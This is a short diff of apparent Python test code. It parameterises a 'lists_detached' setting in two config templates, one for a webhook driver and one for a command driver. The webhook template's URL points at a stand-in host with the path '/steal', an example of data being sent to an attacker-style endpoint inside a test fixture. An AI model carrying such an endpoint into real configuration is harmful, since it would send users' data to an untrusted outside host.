@@ -251,7 +251,7 @@ driver = webhook
 name_pattern = ^[a-z]*h
 url = http://192.0.2.205:80/steal
 signing_key_file = {directory}/key
-lists_detached = True
+lists_detached = {lists}
 """
 
     def __init__(self, servers: Mapping[str, Server]) -> None:
@@ -291,7 +291,7 @@ class Script(Place):
 driver = command
 name_pattern = ^[a-z]*s
 path = /bin/true
-lists_detached = True
+lists_detached = {lists}
 """
     tells_others = False
 
